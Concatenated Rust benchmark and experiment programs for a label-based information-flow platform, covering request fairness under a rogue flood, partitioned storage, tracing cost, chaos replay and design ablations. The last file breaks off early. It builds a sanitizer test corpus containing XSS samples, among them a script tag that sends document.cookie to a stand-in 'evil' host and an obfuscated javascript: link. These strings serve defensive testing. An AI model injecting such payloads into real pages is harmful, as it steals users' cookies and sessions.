/// contended honest p99 / baseline honest p99, per engine.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct Fairness {
    name: String,
    ratio: f64,
}

#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchNet {
    short: bool,
    entries: Vec<BenchEntry>,
    fairness: Vec<Fairness>,
}

/// Drive `engine` for `window`: one honest client measuring per-request
/// latency, `rogue_threads` rogue clients flooding as fast as responses
/// return. Returns the honest histogram plus both completion counts.
fn run_workload(
    engine: &Arc<dyn Serve>,
    rogue_threads: usize,
    window: Duration,
) -> (Histogram, u64, u64) {
    let stop = AtomicBool::new(false);
    let rogue_done = AtomicU64::new(0);
    let mut hist = Histogram::new();
    let mut honest_done = 0u64;

    thread::scope(|s| {
        for _ in 0..rogue_threads {
            let engine = Arc::clone(engine);
            let stop = &stop;
            let rogue_done = &rogue_done;
            s.spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    let resp = engine.serve(Request::get("/rogue/flood"), peer());
                    assert_eq!(resp.status.0, 200, "rogue request failed");
                    rogue_done.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        // Let the flood reach steady state before measuring.
        let warm = window / 10;
        let warm_end = Instant::now() + warm;
        while Instant::now() < warm_end {
            engine.serve(Request::get("/honest/page"), peer());
        }
        let end = Instant::now() + window;
        while Instant::now() < end {
            let t0 = Instant::now();
            let resp = engine.serve(Request::get("/honest/page"), peer());
            hist.record(t0.elapsed());
            assert_eq!(resp.status.0, 200, "honest request failed");
            honest_done += 1;
        }
        stop.store(true, Ordering::Relaxed);
    });

    (hist, honest_done, rogue_done.load(Ordering::Relaxed))
}

fn record(
    entries: &mut Vec<BenchEntry>,
    name: &str,
    window: Duration,
    result: (Histogram, u64, u64),
) -> f64 {
    let (hist, honest, rogue) = result;
    let p50 = hist.percentile_ns(50.0) as f64 / 1_000.0;
    let p99 = hist.percentile_ns(99.0) as f64 / 1_000.0;
    let secs = window.as_secs_f64();
    println!(
        "  {name:<34} honest p50 {p50:>9.1} µs  p99 {p99:>9.1} µs  {:>8.0} rps  (rogue {:>9.0} rps)",
        honest as f64 / secs,
        rogue as f64 / secs,
    );
    entries.push(BenchEntry {
        name: name.to_string(),
        honest_requests: honest,
        honest_p50_us: p50,
        honest_p99_us: p99,
        honest_rps: honest as f64 / secs,
        rogue_rps: rogue as f64 / secs,
    });
    p99
}

fn check_against(baseline_path: &str, current: &BenchNet) -> Result<(), String> {
    let text = std::fs::read_to_string(baseline_path)
        .map_err(|e| format!("read {baseline_path}: {e}"))?;
    let baseline: BenchNet =
        serde_json::from_str(&text).map_err(|e| format!("parse {baseline_path}: {e}"))?;
    let mut failures = Vec::new();
    let mut compared = 0usize;
    for base in &baseline.fairness {
        // The reference engine's ratio is hardware-dependent contrast
        // data, not a guarantee — only the pipeline's is gated.
        if base.name != "fairness_pipeline" {
            continue;
        }
        let Some(cur) = current.fairness.iter().find(|f| f.name == base.name) else {
            failures.push(format!("{}: missing from current run", base.name));
            continue;
        };
        compared += 1;
        if cur.ratio > base.ratio * 4.0 {
            failures.push(format!(
                "{}: fairness ratio {:.2} is >4x above baseline {:.2}",
                base.name, cur.ratio, base.ratio
            ));
        }
    }
    if failures.is_empty() {
        if compared == 0 {
            return Err(format!("no gated pairings with {baseline_path}"));
        }
        println!("check vs {baseline_path}: ok ({compared} pairings)");
        Ok(())
    } else {
        Err(failures.join("; "))
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let short = args.iter().any(|a| a == "--short");
    let check = args
        .iter()
        .position(|a| a == "--check")
        .map(|i| args.get(i + 1).expect("--check needs a path").clone());

    w5_bench::banner(
        "BENCH_net",
        "staged pipeline vs thread-per-connection under a rogue flood",
        "§3.5",
    );

    let window = if short { Duration::from_millis(250) } else { Duration::from_millis(1500) };
    // Enough rogue connections to oversubscribe any plausible core count
    // — the reference engine runs them all at once, the pipeline never
    // runs more than its worker pool.
    let rogue_threads = 2 * thread::available_parallelism().map(|n| n.get()).unwrap_or(8).max(8);
    println!("  window {window:?}, rogue connections {rogue_threads}\n");

    let mut entries = Vec::new();
    let mut fairness = Vec::new();

    // --- Reference: the seed dispatch, every connection its own thread.
    let reference: Arc<dyn Serve> = Arc::new(InlineServe::new(Arc::new(SpinHandler)));
    let base = record(&mut entries, "reference honest_alone", window, run_workload(&reference, 0, window));
    let cont = record(
        &mut entries,
        "reference honest_vs_rogue",
        window,
        run_workload(&reference, rogue_threads, window),
    );
    let ref_ratio = cont / base;
    println!("  {:<34} fairness ratio {ref_ratio:.2} (contrast only)\n", "reference");
    fairness.push(Fairness { name: "fairness_reference".into(), ratio: ref_ratio });

    // --- Pipeline: two workers, one shard, quantum 1 — the rogue class
    // gets one cheap job per rotation, never the whole pool.
    let pipeline = Pipeline::start(
        PipelineConfig { workers: 2, shards: 1, quantum: 1, ..PipelineConfig::default() },
        Arc::new(SpinHandler),
        Arc::new(ClassByPath),
    );
    let engine: Arc<dyn Serve> = Arc::clone(&pipeline) as Arc<dyn Serve>;
    let base = record(&mut entries, "pipeline honest_alone", window, run_workload(&engine, 0, window));
    let cont = record(
        &mut entries,
        "pipeline honest_vs_rogue",
        window,
        run_workload(&engine, rogue_threads, window),
    );
    let pipe_ratio = cont / base;
    let snap = pipeline.stats.snapshot();
    pipeline.stop();
    println!("  {:<34} fairness ratio {pipe_ratio:.2}", "pipeline");
    println!(
        "  {:<34} admitted {} shed {} served {}\n",
        "pipeline stats", snap.admitted, snap.shed, snap.served
    );
    fairness.push(Fairness { name: "fairness_pipeline".into(), ratio: pipe_ratio });

    let out = BenchNet { short, entries, fairness };
    let path = w5_bench::metrics::write_metrics("BENCH_net", &out).expect("write metrics");
    println!("wrote {}", path.display());

    // Acceptance floor (full runs only — --short windows are CI smoke on
    // shared hardware): the honest tenant's p99 must degrade < 2x under
    // the flood when the pipeline schedules it.
    if !short && pipe_ratio >= 2.0 {
        eprintln!("FAIL: pipeline fairness ratio {pipe_ratio:.2} >= 2.0 acceptance floor");
        std::process::exit(1);
    }

    if let Some(baseline) = check {
        if let Err(e) = check_against(&baseline, &out) {
            eprintln!("FAIL: {e}");
            std::process::exit(1);
        }
    }
}
