//! BENCH_store — label-partitioned storage vs the seed per-row scan.
//!
//! Every scenario builds two identical worlds and runs the same query
//! stream against both executors:
//!
//! - **reference**: [`w5_store::ReferenceExec`] — the seed engine kept
//!   verbatim: every row visited in insertion order, one memoized flow
//!   check and one budget unit per row.
//! - **partitioned**: [`w5_store::PartitionedExec`] — rows grouped into
//!   label partitions (one flow check per partition, unreadable
//!   partitions skipped at flat cost) with per-partition sorted runs
//!   serving indexed `WHERE` clauses.
//!
//! Three shapes, at 1k and 100k rows:
//!
//! - `point_lookup` — indexed `WHERE id = k` by one owner among many:
//!   index probe + partition pruning vs full scan.
//! - `range_scan` — indexed range over a public table: pure index win,
//!   no label skew.
//! - `label_skew` — full aggregate by an owner who can read 1 of 100
//!   partitions: pure pruning win, no index.
//!
//! Emits `BENCH_store.json` (via `w5_bench::metrics`, so
//! `W5_METRICS_DIR` redirects it). `--short` shrinks sizes and budgets
//! for CI smoke runs; `--check <baseline.json>` exits non-zero if any
//! paired speedup regressed more than 5x against the committed baseline.
//! Full runs also enforce the PR's acceptance floors: ≥5x on the
//! 100k-row label-skewed scan, ≥10x on 100k-row indexed point lookups.

use std::sync::Arc;
use std::time::Duration;
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_store::{Database, QueryCost, QueryMode, Subject};

/// One measured arm.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchEntry {
    name: String,
    ns_per_op: f64,
    ops_per_sec: f64,
    /// Rows the query logically covers per second (table size × query
    /// rate) — the "how fast does the table feel" number for scans.
    rows_per_sec: f64,
}

/// A reference-vs-partitioned pairing; `speedup` = ref ns / partitioned ns.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct Speedup {
    name: String,
    speedup: f64,
}

/// The whole artifact.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchStore {
    short: bool,
    entries: Vec<BenchEntry>,
    speedups: Vec<Speedup>,
}

struct Harness {
    budget: Duration,
    entries: Vec<BenchEntry>,
    speedups: Vec<Speedup>,
}

impl Harness {
    fn bench<F: FnMut()>(&mut self, name: &str, table_rows: usize, mut f: F) -> f64 {
        let (iters, elapsed) = w5_bench::throughput(self.budget, &mut f);
        let ns = elapsed.as_nanos() as f64 / iters as f64;
        let rows_per_sec = (iters * table_rows as u64) as f64 / elapsed.as_secs_f64();
        println!(
            "  {name:<34} {:>12}  {ns:>12.0} ns/query  {:>14} rows/s",
            w5_bench::ops_per_sec(iters, elapsed),
            w5_bench::ops_per_sec(iters * table_rows as u64, elapsed),
        );
        self.entries.push(BenchEntry {
            name: name.to_string(),
            ns_per_op: ns,
            ops_per_sec: iters as f64 / elapsed.as_secs_f64(),
            rows_per_sec,
        });
        ns
    }

    fn pair<FR: FnMut(), FP: FnMut()>(
        &mut self,
        name: &str,
        table_rows: usize,
        reference: FR,
        partitioned: FP,
    ) {
        let r = self.bench(&format!("{name} (reference)"), table_rows, reference);
        let p = self.bench(&format!("{name} (partitioned)"), table_rows, partitioned);
        let speedup = r / p;
        println!("  {name:<34} speedup {speedup:.1}x");
        self.speedups.push(Speedup { name: name.to_string(), speedup });
    }
}

/// Fill `items` with `rows` rows spread over `labels` round-robin
/// (`labels.len()` partitions), unique indexed `id`, then index it.
fn build(db: &Database, rows: usize, labels: &[LabelPair]) {
    let trusted = Subject::anonymous();
    db.execute(
        &trusted,
        QueryMode::Filtered,
        QueryCost::unlimited(),
        &LabelPair::public(),
        "CREATE TABLE items (id INTEGER, v INTEGER, owner INTEGER)",
    )
    .unwrap();
    for (u, l) in labels.iter().enumerate() {
        // Owner u's rows are the ids ≡ u (mod owners), batched.
        let ids: Vec<usize> = (0..rows).filter(|i| i % labels.len() == u).collect();
        for chunk in ids.chunks(500) {
            let values: Vec<String> =
                chunk.iter().map(|i| format!("({i}, {}, {u})", i * 7 % 1000)).collect();
            db.execute(
                &trusted,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                l,
                &format!("INSERT INTO items VALUES {}", values.join(",")),
            )
            .unwrap();
        }
    }
    db.create_index("items", "id").unwrap();
}

fn select(db: &Database, reader: &Subject, sql: &str) -> u64 {
    let out = db
        .execute(reader, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(), sql)
        .unwrap();
    std::hint::black_box(out.scanned)
}

/// Compare against a committed baseline: any paired speedup that fell by
/// more than 5x fails the run.
fn check_against(baseline_path: &str, current: &BenchStore) -> Result<(), String> {
    let text = std::fs::read_to_string(baseline_path)
        .map_err(|e| format!("read {baseline_path}: {e}"))?;
    let baseline: BenchStore =
        serde_json::from_str(&text).map_err(|e| format!("parse {baseline_path}: {e}"))?;
    let mut failures = Vec::new();
    let mut compared = 0usize;
    for base in &baseline.speedups {
        let Some(cur) = current.speedups.iter().find(|s| s.name == base.name) else {
            // A --short run only covers the small sizes; a full run must
            // cover everything the baseline has.
            if !current.short {
                failures.push(format!("{}: missing from current run", base.name));
            }
            continue;
        };
        compared += 1;
        if cur.speedup < base.speedup / 5.0 {
            failures.push(format!(
                "{}: speedup {:.2}x is >5x below baseline {:.2}x",
                base.name, cur.speedup, base.speedup
            ));
        }
    }
    if failures.is_empty() {
        if compared == 0 {
            return Err(format!("no common pairings with {baseline_path}"));
        }
        println!("check vs {baseline_path}: ok ({compared} pairings)");
        Ok(())
    } else {
        Err(failures.join("; "))
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let short = args.iter().any(|a| a == "--short");
    let check = args
        .iter()
        .position(|a| a == "--check")
        .map(|i| args.get(i + 1).expect("--check needs a path").clone());

    w5_bench::banner(
        "BENCH_store",
        "label-partitioned storage vs seed per-row scan",
        "§3.5",
    );
    let mut h = Harness {
        budget: if short { Duration::from_millis(40) } else { Duration::from_millis(300) },
        entries: Vec::new(),
        speedups: Vec::new(),
    };

    const OWNERS: usize = 100;
    let reg = Arc::new(TagRegistry::new());
    // Owner labels are read-protected: only the tag holder sees the rows.
    let mut owner_caps = Vec::new();
    let owner_labels: Vec<LabelPair> = (0..OWNERS)
        .map(|i| {
            let (t, caps) = reg.create_tag(TagKind::ReadProtect, &format!("bench:u{i}"));
            owner_caps.push(caps);
            LabelPair::new(Label::singleton(t), Label::empty())
        })
        .collect();
    let owner0 = Subject::new(LabelPair::public(), reg.effective(&owner_caps[0]));
    let public_reader = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));

    let sizes: &[usize] = if short { &[1_000, 10_000] } else { &[1_000, 100_000] };
    for &rows in sizes {
        // --- Indexed point lookups by one owner among 100. ---
        let rdb = Database::reference();
        let pdb = Database::new();
        build(&rdb, rows, &owner_labels);
        build(&pdb, rows, &owner_labels);
        // Rotate over owner 0's own ids (i ≡ 0 mod OWNERS), one counter
        // per arm so both see the same id sequence.
        let (mut kr, mut kp) = (0usize, 0usize);
        h.pair(
            &format!("point_lookup_{rows}"),
            rows,
            || {
                let id = (kr * OWNERS) % rows;
                kr += 1;
                select(&rdb, &owner0, &format!("SELECT v FROM items WHERE id = {id}"));
            },
            || {
                let id = (kp * OWNERS) % rows;
                kp += 1;
                select(&pdb, &owner0, &format!("SELECT v FROM items WHERE id = {id}"));
            },
        );

        // --- Label-skewed full scan: owner 0 aggregates a table that is
        // 99% other people's partitions. ---
        h.pair(
            &format!("label_skew_{rows}"),
            rows,
            || {
                select(&rdb, &owner0, "SELECT COUNT(*), SUM(v) FROM items");
            },
            || {
                select(&pdb, &owner0, "SELECT COUNT(*), SUM(v) FROM items");
            },
        );

        // --- Indexed range scan over an all-public table: the pure index
        // win, no label skew at all. ---
        let rpub = Database::reference();
        let ppub = Database::new();
        build(&rpub, rows, std::slice::from_ref(&LabelPair::public()));
        build(&ppub, rows, std::slice::from_ref(&LabelPair::public()));
        let (mut ar, mut ap) = (0usize, 0usize);
        let range_sql = |a: usize| {
            let lo = (a * 131) % rows;
            let hi = (lo + 100).min(rows);
            format!("SELECT COUNT(*), SUM(v) FROM items WHERE id >= {lo} AND id < {hi}")
        };
        h.pair(
            &format!("range_scan_{rows}"),
            rows,
            || {
                select(&rpub, &public_reader, &range_sql(ar));
                ar += 1;
            },
            || {
                select(&ppub, &public_reader, &range_sql(ap));
                ap += 1;
            },
        );
    }

    let out = BenchStore { short, entries: h.entries, speedups: h.speedups };
    let path = w5_bench::metrics::write_metrics("BENCH_store", &out).expect("write metrics");
    println!();
    println!("wrote {}", path.display());

    // Acceptance floors (full runs only — --short sizes are CI smoke).
    if !short {
        let floors = [("label_skew_100000", 5.0), ("point_lookup_100000", 10.0)];
        for (name, floor) in floors {
            let s = out
                .speedups
                .iter()
                .find(|s| s.name == name)
                .unwrap_or_else(|| panic!("{name} missing"));
            if s.speedup < floor {
                eprintln!("FAIL: {} speedup {:.2}x < {floor}x acceptance floor", name, s.speedup);
                std::process::exit(1);
            }
        }
    }

    if let Some(baseline) = check {
        if let Err(e) = check_against(&baseline, &out) {
            eprintln!("FAIL: {e}");
            std::process::exit(1);
        }
    }
}
