//! BENCH_trace — what causal tracing costs on the hot path.
//!
//! Every workload runs on identical scoped ledgers, varying exactly one
//! knob. Three arms:
//!
//! - **baseline**: no active trace at all — `span_if_active` sees an
//!   empty stack and returns immediately. The pre-tracing cost model.
//! - **unsampled**: under a root span the head sampler rejected
//!   (rate 0.0). This is the always-on production posture for the vast
//!   majority of requests; its overhead over baseline is the permanent
//!   tax of having tracing wired in. Target: <5% p50 on the
//!   kernel.send flow-check path (interned subset probe, `count_check`
//!   parity, mailbox move).
//! - **sampled**: rate 1.0, every span recorded. The price a sampled
//!   request pays for an actual trace — expected to be well above the
//!   unsampled tax, reported honestly rather than gated.
//!
//! Emits `BENCH_trace.json` via `w5_bench::metrics` (`W5_METRICS_DIR`
//! redirects it). `--short` shrinks iteration counts for CI smoke runs.

use bytes::Bytes;
use std::sync::Arc;
use w5_difc::{CapSet, LabelPair, TagRegistry};
use w5_kernel::{Kernel, ResourceLimits};
use w5_platform::Platform;
use w5_sim::{build_population, PopulationConfig};

/// Sends per measured batch: keeps the clock read off the per-op cost.
const BATCH: u64 = 64;

/// How the workload relates to the tracer.
#[derive(Clone, Copy, PartialEq)]
enum Arm {
    /// No root span: the instrumentation's fast-out path.
    Baseline,
    /// Root span exists but the sampler rejected the trace.
    Unsampled,
    /// Every span recorded.
    Sampled,
}

impl Arm {
    fn rate(self) -> f64 {
        match self {
            Arm::Sampled => 1.0,
            _ => 0.0,
        }
    }
}

#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct OverheadEntry {
    name: String,
    p50_baseline_ns: u64,
    p50_unsampled_ns: u64,
    p50_sampled_ns: u64,
    /// Unsampled vs baseline, in percent — the always-on tax (the <5%
    /// target). Negative = noise.
    unsampled_overhead_pct: f64,
    /// Sampled vs baseline, in percent — the cost of recording.
    sampled_overhead_pct: f64,
}

/// Exact p50 over raw per-batch samples (the shared log-bucket histogram
/// is too coarse to resolve a 5% delta).
fn sampled_p50_ns<F: FnMut()>(warmup: usize, iters: usize, mut f: F) -> u64 {
    for _ in 0..warmup {
        f();
    }
    let mut samples = Vec::with_capacity(iters);
    for _ in 0..iters {
        let t = std::time::Instant::now();
        f();
        samples.push(t.elapsed().as_nanos() as u64);
    }
    samples.sort_unstable();
    samples[samples.len() / 2]
}

/// p50 ns per send on the kernel flow-check path, on a private scoped
/// ledger.
fn kernel_send_arm(arm: Arm, iters: usize) -> u64 {
    let ledger = Arc::new(w5_obs::Ledger::new());
    ledger.set_trace_sampling(arm.rate(), 7);
    let _scope = w5_obs::scoped(Arc::clone(&ledger));

    let registry = Arc::new(TagRegistry::new());
    let kernel = Kernel::new(Arc::clone(&registry));
    let a = kernel.create_process(
        "bench-a",
        LabelPair::public(),
        CapSet::empty(),
        ResourceLimits::unlimited(),
    );
    let b = kernel.create_process(
        "bench-b",
        LabelPair::public(),
        CapSet::empty(),
        ResourceLimits::unlimited(),
    );
    let payload = Bytes::from_static(b"trace-bench");

    let p50_batch = sampled_p50_ns(iters / 10 + 1, iters, || {
        let _root = (arm != Arm::Baseline).then(|| {
            w5_obs::span("bench.root", w5_obs::Layer::Kernel, &w5_obs::ObsLabel::empty())
        });
        for _ in 0..BATCH {
            kernel.send_strict(a, b, payload.clone(), CapSet::empty()).unwrap();
            let _ = kernel.recv(b).unwrap();
        }
    });
    p50_batch / BATCH
}

/// p50 ns per full app invocation. `invoke` opens its own root span, so
/// the baseline arm is identical to the unsampled one here — both are
/// measured anyway to keep the table uniform.
fn invoke_arm(arm: Arm, iters: usize) -> u64 {
    let ledger = Arc::new(w5_obs::Ledger::new());
    ledger.set_trace_sampling(arm.rate(), 7);
    let _scope = w5_obs::scoped(Arc::clone(&ledger));

    let world = build_population(
        Platform::new_default("bench-trace"),
        PopulationConfig { users: 1, photos_per_user: 1, ..Default::default() },
    );
    let platform = Arc::clone(&world.platform);
    let user = &world.accounts[0];

    sampled_p50_ns(iters / 10 + 1, iters, || {
        let req = Platform::make_request(
            "GET",
            "view",
            &[("user", user.username.as_str()), ("name", "photo0")],
            Some(user),
            Bytes::new(),
        );
        let resp = platform.invoke(Some(user), "devA/photos", req);
        assert_eq!(resp.status, 200);
    })
}

fn entry(name: &str, baseline: u64, unsampled: u64, sampled: u64) -> OverheadEntry {
    let pct = |arm: u64| {
        if baseline == 0 {
            0.0
        } else {
            (arm as f64 - baseline as f64) / baseline as f64 * 100.0
        }
    };
    let e = OverheadEntry {
        name: name.to_string(),
        p50_baseline_ns: baseline,
        p50_unsampled_ns: unsampled,
        p50_sampled_ns: sampled,
        unsampled_overhead_pct: pct(unsampled),
        sampled_overhead_pct: pct(sampled),
    };
    println!(
        "{name:<16} baseline {baseline:>8}ns   unsampled {unsampled:>8}ns ({:+.1}%)   sampled {sampled:>8}ns ({:+.1}%)",
        e.unsampled_overhead_pct, e.sampled_overhead_pct
    );
    e
}

#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchTrace {
    short: bool,
    entries: Vec<OverheadEntry>,
}

fn main() {
    let short = std::env::args().any(|a| a == "--short");
    w5_bench::banner("TRACE-OVERHEAD", "tracing cost on the flow-check hot path", "§3.5");

    let (send_iters, invoke_iters) = if short { (200, 40) } else { (2000, 300) };

    let entries = vec![
        entry(
            "kernel.send",
            kernel_send_arm(Arm::Baseline, send_iters),
            kernel_send_arm(Arm::Unsampled, send_iters),
            kernel_send_arm(Arm::Sampled, send_iters),
        ),
        entry(
            "platform.invoke",
            invoke_arm(Arm::Baseline, invoke_iters),
            invoke_arm(Arm::Unsampled, invoke_iters),
            invoke_arm(Arm::Sampled, invoke_iters),
        ),
    ];

    for e in &entries {
        if e.name == "kernel.send" && e.unsampled_overhead_pct >= 5.0 {
            println!(
                "warning: {} always-on tax {:.1}% exceeds the 5% target",
                e.name, e.unsampled_overhead_pct
            );
        }
    }

    let out = BenchTrace { short, entries };
    let path = w5_bench::metrics::write_metrics("BENCH_trace", &out).unwrap();
    println!("wrote {}", path.display());
}
