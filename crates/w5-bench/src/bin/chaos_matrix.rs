//! Chaos matrix — the CI entry point for the fault-injection harness.
//!
//! Runs the deterministic chaos workload ([`w5_sim::run_chaos`]) for a
//! matrix of seeds, each seed **twice**, and fails (exit 1) if:
//!
//! * any run reports an invariant violation (noninterference, sentinel in
//!   a denial/degradation body, zero-clearance ledger leak), or
//! * the two runs of any seed disagree — different ledger digests, fault
//!   tallies or response counts mean the fault schedule did not replay
//!   bit-identically, and every bug the harness finds would be
//!   unreproducible.
//!
//! Seeds come from the command line (`chaos_matrix 1 2 3`) or default to
//! a fixed list so CI runs are comparable across commits.

use w5_sim::{run_chaos, ChaosSpec};

const DEFAULT_SEEDS: [u64; 6] = [1, 7, 42, 1007, 20070824, 0x5735];

fn main() {
    let args: Vec<u64> = std::env::args()
        .skip(1)
        .map(|a| a.parse().unwrap_or_else(|_| panic!("bad seed: {a}")))
        .collect();
    let seeds: Vec<u64> = if args.is_empty() { DEFAULT_SEEDS.to_vec() } else { args };

    let mut failed = false;
    println!("chaos matrix: {} seeds, each run twice", seeds.len());
    println!("{:>10}  {:>16}  {:>9}  {:>9}  {:>9}  {:>8}  replay", "seed", "digest", "delivered", "blocked", "degraded", "faults");
    for &seed in &seeds {
        let spec = ChaosSpec::new(seed);
        let first = run_chaos(&spec);
        let second = run_chaos(&spec);
        let replay = if first == second { "ok" } else { "MISMATCH" };
        println!(
            "{:>10}  {:>16x}  {:>9}  {:>9}  {:>9}  {:>8}  {replay}",
            seed,
            first.digest,
            first.delivered,
            first.blocked,
            first.degraded,
            first.faults.total_injected(),
        );
        if first != second {
            failed = true;
            eprintln!(
                "seed {seed}: replay mismatch (digest {:x} vs {:x})",
                first.digest, second.digest
            );
        }
        for v in first.violations.iter().chain(second.violations.iter()) {
            failed = true;
            eprintln!("seed {seed}: VIOLATION: {v}");
        }
    }
    if failed {
        eprintln!("chaos matrix FAILED");
        std::process::exit(1);
    }
    println!("chaos matrix passed");
}
