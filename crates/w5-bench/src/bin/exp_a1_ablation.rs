//! A1 — ablations over the platform's design choices.
//!
//! Three knobs DESIGN.md calls out, each isolated:
//!
//! 1. **Perimeter cost vs commingling width** — how expensive is an
//!    export check as the response carries more users' tags (the price of
//!    the aggregation-over-isolation bet)?
//! 2. **Perimeter cost vs granted-declassifier count** — each owner may
//!    grant several declassifiers; the exporter tries them in order.
//! 3. **Sanitizer on/off** — what the §3.5 JavaScript filter adds to an
//!    HTML-producing request.

use bytes::Bytes;
use std::sync::Arc;
use std::time::Duration;
use w5_platform::{
    Account, Declassifier, ExportContext, GrantScope, Platform, PlatformConfig,
    RelationshipOracle, Verdict,
};
use w5_sim::Table;

/// A declassifier that always denies — a "decoy" grant the exporter must
/// consult and reject before finding the one that allows. Each instance
/// gets a distinct (leaked) name so N grants really are N consultations.
struct AlwaysDeny {
    name: &'static str,
}

impl AlwaysDeny {
    fn numbered(i: usize) -> AlwaysDeny {
        AlwaysDeny { name: Box::leak(format!("deny-{i}").into_boxed_str()) }
    }
}

impl Declassifier for AlwaysDeny {
    fn name(&self) -> &'static str {
        self.name
    }
    fn description(&self) -> &'static str {
        "ablation decoy"
    }
    fn authorize(&self, _ctx: &ExportContext, _o: &dyn RelationshipOracle) -> Verdict {
        Verdict::Deny
    }
    fn audit_lines(&self) -> usize {
        1
    }
}

fn check_cost(platform: &Arc<Platform>, labels: &w5_difc::LabelPair, viewer: &Account) -> f64 {
    let oracle = platform.oracle();
    let budget = Duration::from_millis(200);
    let (iters, elapsed) = w5_bench::throughput(budget, || {
        let d = platform.exporter.check(
            labels,
            Some(viewer),
            "devX/app",
            &platform.accounts,
            &platform.policies,
            &platform.declassifiers,
            &oracle,
        );
        std::hint::black_box(d.allowed);
    });
    elapsed.as_nanos() as f64 / iters as f64
}

fn main() {
    w5_bench::banner("A1", "design-choice ablations", "DESIGN.md §4 / §6");

    // ---- 1. Commingling width.
    {
        let platform = Platform::new_default("ablate-width");
        let viewer = platform.accounts.register("viewer", "pw").unwrap();
        let mut owners = Vec::new();
        for i in 0..64 {
            let a = platform.accounts.register(&format!("owner{i}"), "pw").unwrap();
            platform
                .policies
                .grant_declassifier(a.id, "public-read", GrantScope::App("devX/app".into()));
            owners.push(a);
        }
        let mut table = Table::new(["commingled owners", "perimeter check ns", "per-tag ns"]);
        for &n in &[1usize, 2, 4, 8, 16, 32, 64] {
            let labels = w5_difc::LabelPair::new(
                w5_difc::Label::from_iter(owners[..n].iter().map(|a| a.export_tag)),
                w5_difc::Label::empty(),
            );
            let ns = check_cost(&platform, &labels, &viewer);
            table.row([n.to_string(), format!("{ns:.0}"), format!("{:.0}", ns / n as f64)]);
        }
        println!("{table}");
    }

    // ---- 2. Granted-declassifier count (decoys before the allower).
    {
        let platform = Platform::new_default("ablate-grants");
        for i in 0..64 {
            platform.declassifiers.register(Arc::new(AlwaysDeny::numbered(i)));
        }
        let viewer = platform.accounts.register("viewer", "pw").unwrap();
        let owner = platform.accounts.register("owner", "pw").unwrap();
        let labels = w5_difc::LabelPair::new(
            w5_difc::Label::singleton(owner.export_tag),
            w5_difc::Label::empty(),
        );
        let mut table = Table::new(["granted declassifiers", "perimeter check ns", "allowed?"]);
        for &decoys in &[0usize, 1, 4, 16, 64] {
            // Rebuild the grant list: N distinct decoys, then the allower.
            for i in 0..64 {
                platform
                    .policies
                    .revoke_declassifier(owner.id, Box::leak(format!("deny-{i}").into_boxed_str()));
            }
            platform.policies.revoke_declassifier(owner.id, "public-read");
            for i in 0..decoys {
                platform.policies.grant_declassifier(
                    owner.id,
                    Box::leak(format!("deny-{i}").into_boxed_str()),
                    GrantScope::App("devX/app".into()),
                );
            }
            platform
                .policies
                .grant_declassifier(owner.id, "public-read", GrantScope::App("devX/app".into()));
            let ns = check_cost(&platform, &labels, &viewer);
            let d = platform.exporter.check(
                &labels,
                Some(&viewer),
                "devX/app",
                &platform.accounts,
                &platform.policies,
                &platform.declassifiers,
                &platform.oracle(),
            );
            table.row([
                (platform.policies.get(owner.id).grants.len()).to_string(),
                format!("{ns:.0}"),
                d.allowed.to_string(),
            ]);
        }
        println!("{table}");
    }

    // ---- 3. Sanitizer on/off over the full invoke path.
    {
        let mut table = Table::new(["sanitizer", "mean invoke us"]);
        for &(name, on) in &[("on", true), ("off", false)] {
            let platform = Platform::new(
                "ablate-sanitize",
                PlatformConfig { sanitize_html: on, ..PlatformConfig::default() },
            );
            w5_apps::install_all(&platform);
            let bob = platform.accounts.register("bob", "pw").unwrap();
            platform.policies.delegate_write(bob.id, "devB/blog");
            let req = Platform::make_request(
                "POST",
                "post",
                &[("title", "t"), ("body", &"lorem ipsum ".repeat(100))],
                Some(&bob),
                Bytes::new(),
            );
            assert_eq!(platform.invoke(Some(&bob), "devB/blog", req).status, 200);
            let h = w5_bench::measure(10, 300, || {
                let req = Platform::make_request(
                    "GET",
                    "read",
                    &[("user", "bob"), ("title", "t")],
                    Some(&bob),
                    Bytes::new(),
                );
                let r = platform.invoke(Some(&bob), "devB/blog", req);
                assert_eq!(r.status, 200);
            });
            table.row([name.to_string(), format!("{:.1}", h.mean_ns() / 1e3)]);
        }
        println!("{table}");
    }

    println!("shape check: perimeter cost grows linearly in commingled tags (sub-us each),");
    println!("             decoy declassifier consultations are cheap, and the sanitizer");
    println!("             adds a small constant to HTML responses.");
}
