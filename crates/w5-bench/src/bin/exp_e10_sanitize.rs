//! E10 — perimeter JavaScript filtering (paper §3.5, client-side support).
//!
//! Throughput and efficacy of the perimeter sanitizer over a generated
//! page corpus: clean pages, script injections, event-handler injections,
//! and `javascript:` URLs (including whitespace obfuscation).

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use w5_platform::sanitize_html;
use w5_sim::Table;

fn gen_page(rng: &mut StdRng, kind: usize, paragraphs: usize) -> (String, bool) {
    let mut html = String::from("<html><body>");
    let mut hostile = false;
    for p in 0..paragraphs {
        html.push_str(&format!("<p class=\"c{p}\">lorem ipsum {p} </p>"));
        if p == paragraphs / 2 {
            match kind {
                1 => {
                    html.push_str("<script>document.location='http://evil/'+document.cookie</script>");
                    hostile = true;
                }
                2 => {
                    html.push_str(&format!(
                        "<img src=\"p{}.img\" onerror=\"steal()\">",
                        rng.gen_range(0..100)
                    ));
                    hostile = true;
                }
                3 => {
                    html.push_str("<a href=\"java\tscript:steal()\">win a prize</a>");
                    hostile = true;
                }
                _ => {
                    html.push_str(&format!("<a href=\"/page{}\">next</a>", rng.gen_range(0..100)));
                }
            }
        }
    }
    html.push_str("</body></html>");
    (html, hostile)
}

